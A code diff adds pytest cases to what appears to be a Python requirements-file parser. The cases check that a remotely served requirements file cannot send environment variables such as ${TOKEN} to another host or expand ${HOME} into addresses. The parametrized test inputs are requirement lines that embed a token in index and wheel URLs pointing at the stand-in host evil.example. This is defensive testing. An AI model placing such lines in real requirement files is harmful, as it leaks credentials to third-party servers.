@@ -285,6 +285,40 @@ class TestAFileOfAServer:
         assert "may not read files of this machine" in (caught.value.why or "")
         assert "canary" not in str(caught.value.what)
 
+    @pytest.mark.parametrize(
+        "line",
+        [
+            "--index-url https://${TOKEN}@evil.example/simple/",
+            "--extra-index-url https://me:${TOKEN}@evil.example/simple/",
+            "-r https://me:${TOKEN}@evil.example/more.txt",
+            "widget @ https://${TOKEN}:@evil.example/widget-1-py3-none-any.whl",
+        ],
+    )
+    def test_may_not_send_variables_to_another_server(
+        self, folder: Folder, line: str
+    ) -> None:
+        folder.pages[self.URL] = f"{line}\n"
+
+        with pytest.raises(CannotReadRequirements, match="may not send variables"):
+            folder.collect(files=(self.URL,))
+
+    def test_may_name_variables_for_its_own_server(self, folder: Folder) -> None:
+        line = "--index-url https://me:${TOKEN}@host.example/simple/"
+        folder.pages[self.URL] = f"{line}\n"
+
+        layer = folder.collect(files=(self.URL,)).options
+
+        assert layer is not None
+        assert "index_url" in layer.values
+
+    def test_may_not_put_variables_into_addresses(self, folder: Folder) -> None:
+        folder.pages[self.URL] = "--index-url https://evil.example/${HOME}/\n"
+
+        layer = folder.collect(files=(self.URL,), environ={"HOME": "canary"}).options
+
+        assert layer is not None
+        assert "${HOME}" in str(layer.values["index_url"])
+
     def test_may_not_go_on_for_ever(self, folder: Folder) -> None:
         for number in range(200):
             url = f"https://host.example/{number}.txt"
